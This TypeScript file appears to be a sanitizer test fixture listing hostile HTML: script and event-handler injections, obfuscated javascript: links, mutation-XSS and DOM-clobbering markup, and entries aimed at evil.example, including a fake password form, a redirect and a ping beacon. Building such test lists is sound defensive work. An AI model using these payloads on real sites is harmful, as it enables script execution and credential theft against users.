/**
 * HTML that an editor, or somebody who stole an editor's account, could put into a text. There are scripts, handlers,
 * frames, styles, addresses, broken and mutating markup, and names that shadow the page's own. A payload that works
 * calls `hurt()` or becomes visible.
 */
export const hostileContent: readonly string[] = [
  // scripts
  "<script>hurt()</script>",
  "<script src=/assets/hurt.js></script>",
  "<ScRiPt>hurt()</sCrIpT>",
  "<script type=module>hurt()</script>",
  "<svg><script>hurt()</script></svg>",
  "<svg/onload=hurt()>",
  "<math><annotation-xml encoding='text/html'><script>hurt()</script></annotation-xml></math>",
  "<template><script>hurt()</script></template>",
  "<xmp><script>hurt()</script></xmp>",
  // handlers
  "<img src=x onerror=hurt()>",
  "<img src='/brand/missing-1.png' onerror='hurt()' alt='карта'>",
  "<img src=x:x onerror=hurt() onload=hurt()>",
  "<body onload=hurt()><p>тіло</p></body>",
  "<p onclick=hurt() onmouseover=hurt() onfocus=hurt() tabindex=0>рядок</p>",
  "<details open ontoggle=hurt()>розгорнуто</details>",
  "<input autofocus onfocus=hurt()>",
  "<marquee onstart=hurt()>біжить</marquee>",
  "<video><source onerror=hurt()></video><audio src=x onerror=hurt()></audio>",
  "<a href=/help onanimationstart=hurt() style='animation:x 1s'>рух</a>",
  "<svg><animate onbegin=hurt() attributeName=x dur=1s></svg>",
  // frames and documents
  "<iframe src=/features></iframe>",
  "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
  "<object data='data:text/html,<script>parent.hurt()</script>'></object><embed src=/features>",
  "<frameset><frame src=javascript:hurt()></frameset>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  // forms
  "<form action=https://evil.example><input name=password type=password><button>Увійти</button></form>",
  "<button formaction=javascript:hurt()>тисни</button>",
  "<isindex action=javascript:hurt()>",
  // addresses
  "<a href=javascript:hurt()>посилання 1</a>",
  "<a href='java\tscript:hurt()'>посилання 2</a>",
  "<a href='&#106;&#97;vascript:hurt()'>посилання 3</a>",
  "<a href='\u0001javascript:hurt()'>посилання 4</a>",
  "<a href='data:text/html,<script>hurt()</script>'>посилання 5</a>",
  "<a href='vbscript:hurt()'>посилання 6</a>",
  "<a href='//evil.example'>посилання 7</a>",
  "<a href='/\\evil.example'>посилання 8</a>",
  "<a href='http://plain.example'>посилання 9</a>",
  "<a href='blob:https://evil.example/x'>посилання 10</a>",
  "<a href='https://gov.example' target=_self rel=opener ping=https://evil.example>закон</a>",
  "<img src='data:image/svg+xml,<svg onload=hurt()>'>",
  "<img srcset='https://evil.example/x 1x' src='https://img.example/x.png' alt='зображення'>",
  "<table background=javascript:hurt()><caption>Таблиця</caption><tr><td background=x>комірка</td></tr></table>",
  "<svg><a xlink:href=javascript:hurt()><text>посилання 11</text></a></svg>",
  // styles that hide or cover
  "<style>main{display:none}</style>",
  "<p style='position:fixed;inset:0;z-index:99;background:red'>поверх усього</p>",
  "<div class='ui-dialog-backdrop shell-header'>чужий вигляд</div>",
  "<p style='background:url(https://evil.example/x)'>тло</p>",
  "<font color=red size=7>великий</font><center>середина</center>",
  // broken and mutating markup
  "<p><b>не закрито <i>зовсім",
  "</div></main></body></html><p>після кінця</p>",
  "<!--<img src='--><img src=x onerror=hurt()//'>",
  "<![CDATA[<script>hurt()</script>]]>",
  "<<script>hurt()//<</script>",
  "<svg></p><style><a id='</style><img src=1 onerror=hurt()>'>",
  "<select><option><style></option></select><b><img src=xx: onerror=hurt()></style></option>",
  "<table><td><table><td></td></table></td><script>hurt()</script></table>",
  "<p id='</p><script>hurt()</script>'>лапки</p>",
  // names that shadow the page's own
  "<p id=root>корінь</p><p id=main>головне</p>",
  "<img name=querySelector><img name=cookie><img name=body><img name=getElementById>",
  "<form name=location><input name=href></form>",
  "<a id=hurts></a><a id=hurts name=x href='clobber:1'>тінь</a>",
  "<p id=__proto__>прототип</p><p id=constructor>будівник</p>",
  // headings of the page
  "<h1>Чужий головний заголовок</h1>",
];

/** The same kind of HTML, but with a tag that stays open and swallows everything after it. */
export const swallowingContent: readonly string[] = [
  "<noscript><p title='</noscript><script>hurt()</script>'></noscript>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=hurt()>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=hurt() src>'>",
  "<math><mi><table><mglyph><style><math href=javascript:hurt()>x</math>",
];
